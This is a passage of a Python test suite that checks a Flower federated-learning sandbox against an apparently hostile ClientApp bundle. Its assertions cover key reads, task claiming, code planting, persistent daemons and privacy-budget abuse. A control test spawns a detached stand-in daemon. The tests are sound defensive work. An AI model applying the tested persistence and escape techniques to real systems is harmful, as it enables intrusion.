        assert verify_ledger(agent.ledger) == []


def test_killed_agent_service_keeps_every_spend(scenario: World) -> None:
    crash = scenario.results["crash"]
    assert crash["killed_pids_alive"] == []
    before, after_kill = crash["before"], crash["after_kill"]
    assert "honest:gradient:r1" in before.request_ids
    for later in (after_kill, scenario.results["after_honest"][0], scenario.results["after_hostile"][0]):
        assert before.request_ids <= later.request_ids  # nothing committed before the kill was lost
        assert np.all(later.spent >= before.spent)  # no unit's spend went down
        assert np.all(later.stopped[before.stopped])


def test_hostile_bundle_reads_nothing_of_the_owner(scenario: World) -> None:
    records = scenario.results["exfil"]
    sockets = [str(a.socket) for a in scenario.agents]
    assert {r["socket"] for r in records} == set(sockets)  # the hostile code ran on every node
    assert {r["message_type"] for r in records} >= {"query.status", "train.gradient"}
    for record in records:
        assert record["uid"] == NODE_UIDS[sockets.index(record["socket"])]
        # Inside the ClientApp's user namespace the sockets' group is not mapped: it shows as the overflow gid.
        assert record["groups"] in ([SOCKET_GID], [OVERFLOW_GID])
        assert record["other_key"] == {"error": "PermissionError"}  # the other node's key
        assert record["listing"] == "PermissionError"
        # Its own /proc (a mount namespace): no process outside its PID namespace, so not the agent
        # worker's CPU time, which pacing does not hide (privacy.md §8; review 2 read it to 6 ms).
        assert record["agent_in_proc"] == []
        assert len(record["reads"]) == 3 * N_AGENTS
        for name, got in record["reads"].items():
            assert got == {"error": "PermissionError"}, (name, {k: v for k, v in got.items() if k != "content"})
        assert "failed" not in record


def test_hostile_requests_are_refused_or_charged_by_policy(scenario: World) -> None:
    records = scenario.results["exfil"]
    asked = [(r["socket"], a) for r in records for a in r["asked"]]
    by_what: dict[str, list[int]] = {}
    for _, a in asked:
        by_what.setdefault(a["what"], []).append(a["code"])
    gradients = [r for r in records if r["message_type"] == "train.gradient"]
    assert len(gradients) == N_AGENTS
    assert by_what["below-policy"] == [wire.ERR_POLICY] * N_AGENTS
    assert by_what["budget-key"] == [wire.ERR_MALFORMED] * N_AGENTS
    assert by_what["within-policy"] == [0] * N_AGENTS
    assert set(by_what["forwarded"]) == {0}
    for i, agent in enumerate(scenario.agents):
        before, after = scenario.results["after_honest"][i], scenario.results["after_hostile"][i]
        admitted = {a["request_id"] for s, a in asked if s == str(agent.socket) and a["code"] == 0}
        new = set(after.request_ids - before.request_ids)
        assert new == {"hostile:gradient:r1", "hostile:gradient:r1-hostile-extra"}
        assert new <= admitted
        assert not any("low-noise" in rid or "budget" in rid for rid in after.request_ids)
        cost, sigmas = charges(agent.ledger, new)
        assert sigmas == [NOISE_STD, NOISE_STD]  # nothing below the policy was ever released
        np.testing.assert_allclose(after.spent - before.spent, cost, rtol=1e-12, atol=0)
        extra, _ = charges(agent.ledger, {"hostile:gradient:r1-hostile-extra"})
        assert extra.min() > 0  # the hostile bundle's own request paid like any request, every unit
        assert not after.stopped.any()
        assert verify_ledger(agent.ledger) == []
        with Ledger.open_existing(agent.ledger) as ledger:
            assert ledger.requests_in_run("hostile") == 2


def test_a_bundle_claims_no_task_through_the_runtime_api(scenario: World) -> None:
    """A hostile review's ClientApp polled AcquireTask (no token in Flower 1.42's subprocess mode) and claimed a
    later run's task, on its SuperNode and on another of the host's. In its own network namespace it reaches
    no host port, and the shim's relay refuses every call but its own task's (simulations/deploy/clientapp_sandbox.py);
    every honest run went through that relay without a refusal."""
    records = scenario.results["exfil"]
    assert records
    for record in records:
        assert record["acquire"] == {"own": 403, "host": ["ConnectionRefusedError"] * N_AGENTS}
    refusals = [
        line
        for node in scenario.supernodes
        for line in node.log_text().splitlines()
        if "refused a Runtime API call of the ClientApp" in line
    ]
    assert len(refusals) == len(records)  # one per hostile ClientApp, none in the honest runs
    assert all("'/v1/runtime/acquire-task'" in line for line in refusals)


def test_a_bundle_that_is_no_clientapp_runs_nowhere_on_a_node(agentapp_run: World) -> None:
    """A hostile review's AgentApp bundle ran as Flower's own ``flwr-agentapp`` on the node, outside the sandbox
    (host namespaces, the node's FLWR_HOME, AcquireTask on every SuperNode, a daemon that outlived the run).
    Every task command but the ClientApp's refuses now (simulations/deploy/clientapp_sandbox.py REFUSED_COMMANDS)."""
    exfil = agentapp_run.exfil
    assert (exfil / "agentapp-superlink.jsonl").exists()  # the coordinator's side ran and messaged every node
    assert not (exfil / "agentapp-node.jsonl").exists()  # no node ran the bundle's code
    for log in agentapp_run.results["agentapp_logs"]:
        assert "refusing a task of type flwr-agentapp: this node runs ClientApps only" in log


def test_honest_spend_is_intact(scenario: World) -> None:
    for i, agent in enumerate(scenario.agents):
        before, after = scenario.results["after_honest"][i], scenario.results["after_hostile"][i]
        assert before.request_ids <= after.request_ids
        assert np.all(after.spent >= before.spent)
        assert np.all(after.stopped[before.stopped])
        honest, _ = charges(agent.ledger, set(before.request_ids))  # read after the hostile run
        np.testing.assert_allclose(honest, before.spent, rtol=1e-12, atol=0)
    hostile = scenario.results["hostile"]
    if isinstance(hostile, dict):  # the hostile ClientApp forwards the coordinator's requests: its run may finish
        assert hostile["rounds_completed"] == 1


def test_an_e2e_test_that_cannot_run_fails_under_ci_and_skips_elsewhere(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("CI", "true")
    with pytest.raises(pytest.fail.Exception, match="must run in CI and cannot: needs setpriv"):
        cannot_run("needs setpriv")
    monkeypatch.setenv("CI", "false")
    with pytest.raises(pytest.skip.Exception, match="needs setpriv"):
        cannot_run("needs setpriv")


def test_each_agent_answers_its_own_supernode_only(scenario: World) -> None:
    """Both node users can open both sockets (a shared group, as one host's layout had it); the agent
    closes a connection from any other agent's SuperNode unread (SO_PEERCRED), so nothing is charged."""
    records = scenario.results["exfil"]
    assert records and all("cross" in r for r in records)
    for record in records:
        closed = ("ConnectionResetError", "BrokenPipeError", "FrameError")  # closed unread, however it shows
        assert set(record["cross"]) == {"error"} and record["cross"]["error"] in closed, record
    for after in scenario.results["after_honest2"]:
        assert not any(rid.endswith("-cross") for rid in after.request_ids)


def test_code_planted_by_a_bundle_never_runs_in_a_later_run(scenario: World) -> None:
    """The hostile run appended code to every unpacked app it could reach; the next genuine run unpacks
    its bundle afresh in a private FLWR_HOME, so the planted line never runs."""
    assert scenario.results["planted_ran"] == ""  # the planted line writes here when it runs
    records = [r for r in scenario.results["exfil"] if r["message_type"] == "train.gradient"]
    assert len(records) == N_AGENTS
    homes = {str(k.parent) for k in scenario.keys}
    for record in records:
        assert record["flwr_home"] not in homes  # the ClientApp's FLWR_HOME is a fresh folder, not the node's
        assert any(p.startswith(record["flwr_home"]) for p in record["planted"])  # it planted in its own unpacked app
    honest2 = scenario.results["honest2"]
    assert isinstance(honest2, dict), honest2
    assert honest2["rounds_completed"] == 1 and honest2["rounds"][0]["replies"] == N_AGENTS


def test_a_daemon_forked_by_a_bundle_is_gone_when_its_run_ends(scenario: World) -> None:
    """Each hostile ClientApp forked a daemon (its own session) that asks its agent every second for
    150 s; its PID namespace dies with the ClientApp, so none is alive after the run and none writes on."""
    started = [r.get("daemon_started") for r in scenario.results["exfil"] if r["message_type"] == "train.gradient"]
    assert started == [True] * N_AGENTS  # each daemon ran (it wrote its first line before its ClientApp answered)
    logs = scenario.results["daemon_logs_after_hostile"]
    assert len(logs) == N_AGENTS and all(size > 0 for size in logs.values())
    assert scenario.results["daemons_after_hostile"] == []
    assert scenario.results["daemons_after_honest2"] == []
    assert scenario.results["daemon_logs_after_honest2"] == logs  # not one line written after the run


def test_the_namespace_is_what_stops_the_daemon(tmp_path: Path) -> None:
    """Control: the same daemon started by a node-user process outside a PID namespace outlives it."""
    reason = skip_reason()
    if reason:
        cannot_run(reason)
    python = node_python()
    assert python is not None
    tmp_path.chmod(0o777)
    spawn = (
        "import subprocess, sys; subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(60)', "
        "'fedfilter-hostile-daemon'], start_new_session=True, stdin=subprocess.DEVNULL, "
        "stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)"
    )
    plain = as_node_user(python, "-c", spawn)
    assert plain.returncode == 0, plain.stderr
    try:
        time.sleep(0.5)
        assert daemon_processes() != []  # outside a namespace it outlives its parent
    finally:
        for pid, _ in daemon_processes():
            os.kill(pid, signal.SIGKILL)
    isolate = ("unshare", "--user", "--map-current-user", "--pid", "--fork", "--kill-child")
    namespaced = as_node_user(*isolate, python, "-c", spawn)
    assert namespaced.returncode == 0, namespaced.stderr
    time.sleep(0.5)
    assert daemon_processes() == []
